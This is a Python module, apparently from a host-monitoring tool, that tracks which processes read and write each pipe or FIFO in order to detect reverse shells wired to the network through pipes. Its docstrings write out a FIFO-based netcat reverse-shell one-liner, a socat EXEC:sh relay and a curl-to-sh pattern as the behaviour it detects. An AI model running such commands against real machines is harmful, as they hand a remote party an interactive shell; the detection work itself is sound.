"""Shells wired to a network peer through pipes and FIFOs (a reverse shell that dups no socket).

`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f` gives a remote peer a shell
without any socket on the shell's stdio: the shell reads what the network relay writes into a
pipe or FIFO, and writes into a pipe the relay sends on. The graph keeps which processes read
and write each pipe or FIFO (by its inode: fds 0-2 at exec, FIFOs opened by path, the ends of
a child's stdio pipes its parent held at the child's exec), and which processes connected out
or accepted a connection. A shell is wired when a networked process feeds its stdin and its
stdout feeds a networked process, each within a few hops (a relay such as `cat` in between).
`cmd | sh` is not: nothing networked reads what the shell writes, and `curl ... | sh` neither.
"""

from __future__ import annotations

from collections import defaultdict, deque
from collections.abc import Iterable

PipeId = tuple[int, int]  # (device, inode) of a pipe or FIFO
MAX_HOPS = 3


class PipeGraph:
    """Pipe and FIFO ends by process, and which processes hold network connections."""

    def __init__(self) -> None:
        self._reads: dict[int, set[PipeId]] = {}
        self._writes: dict[int, set[PipeId]] = {}
        self._readers: defaultdict[PipeId, set[int]] = defaultdict(set)
        self._writers: defaultdict[PipeId, set[int]] = defaultdict(set)
        self._opened: dict[int, set[tuple[PipeId, bool]]] = {}  # FIFO ends opened by path
        self.networked: set[int] = set()

    def __len__(self) -> int:
        return len(self._reads) + len(self._writes)

    def set_stdio(self, pid: int, stdin: PipeId | None, outputs: Iterable[PipeId | None], *,
                  fifos_kept: bool = False) -> None:
        """A process's pipe ends after exec: fd 0 read, fds 1-2 written, and the FIFOs it
        opened by path when the kernel saw them still held (ExecEvent.fifos_kept)."""
        kept = self._opened.get(pid, set()) if fifos_kept else set()
        self.forget(pid, keep_network=True)
        if stdin is not None:
            self.add(pid, stdin, read=True)
        for pipe in outputs:
            if pipe is not None:
                self.add(pid, pipe, read=False)
        for pipe, read in kept:
            self.opened(pid, pipe, read=read)

    def add(self, pid: int, pipe: PipeId, *, read: bool) -> None:
        (self._reads if read else self._writes).setdefault(pid, set()).add(pipe)
        (self._readers if read else self._writers)[pipe].add(pid)

    def opened(self, pid: int, pipe: PipeId, *, read: bool) -> None:
        """A FIFO end the process opened by path (it may keep it across an exec)."""
        self.add(pid, pipe, read=read)
        self._opened.setdefault(pid, set()).add((pipe, read))

    def parent_ends(self, parent: int, *, feeds: PipeId | None, drains: PipeId | None,
                    networked: bool) -> None:
        """The other ends of a child's stdin pipe (`feeds`: the parent writes into it) and
        stdout pipe (`drains`: it reads from it), which the kernel saw the parent hold at the
        child's exec (ExecEvent.parent_feeds, parent_drains), and whether it held a network
        socket then (parent_inet): a relay that made the pipes itself (socat TCP:host:port
        EXEC:sh,pipes) is known by no record of its own to hold them, nor, when it connected
        before it was one, to hold the connection."""
        if feeds is not None:
            self.add(parent, feeds, read=False)
        if drains is not None:
            self.add(parent, drains, read=True)
        if networked:
            self.networked.add(parent)

    def inherit(self, parent: int, child: int) -> None:
        """A forked child holds its parent's ends."""
        for pipe in self._reads.get(parent, ()):
            self.add(child, pipe, read=True)
        for pipe in self._writes.get(parent, ()):
            self.add(child, pipe, read=False)
        if parent in self._opened:
            self._opened[child] = set(self._opened[parent])
        if parent in self.networked:
            self.networked.add(child)

    def forget(self, pid: int, *, keep_network: bool = False) -> None:
        for pipe in self._reads.pop(pid, ()):
            self._drop(self._readers, pipe, pid)
        for pipe in self._writes.pop(pid, ()):
            self._drop(self._writers, pipe, pid)
        self._opened.pop(pid, None)
        if not keep_network:
            self.networked.discard(pid)

    @staticmethod
    def _drop(ends: defaultdict[PipeId, set[int]], pipe: PipeId, pid: int) -> None:
        holders = ends.get(pipe)
        if holders is not None:
            holders.discard(pid)
            if not holders:
                del ends[pipe]

    def _next(self, pid: int, forward: bool) -> set[int]:
        """Processes `pid` writes to (forward) or reads from, through one pipe."""
        mine, theirs = (self._writes, self._readers) if forward else (self._reads, self._writers)
        return {other for pipe in mine.get(pid, ()) for other in theirs.get(pipe, ())} - {pid}

    def reach(self, pid: int, forward: bool) -> set[int]:
        """Processes within MAX_HOPS pipes downstream (forward) or upstream of `pid`."""
        seen, frontier = {pid}, deque([(pid, 0)])
        while frontier:
            current, hops = frontier.popleft()
            if hops == MAX_HOPS:
                continue
            for other in self._next(current, forward):
                if other not in seen:
                    seen.add(other)
                    frontier.append((other, hops + 1))
        return seen - {pid}

    def is_wired(self, shell: int) -> bool:
        """A networked process feeds the shell, and the shell feeds a networked process."""
        return bool(self.reach(shell, False) & self.networked) and bool(
            self.reach(shell, True) & self.networked)

    def wired_near(self, pid: int) -> list[int]:
        """The wired processes `pid` is one of or within reach of (the wiring it belongs to)."""
        if pid not in self._reads and pid not in self._writes:
            return []
        near = {pid} | self.reach(pid, True) | self.reach(pid, False)
        return [p for p in near if self.is_wired(p)]
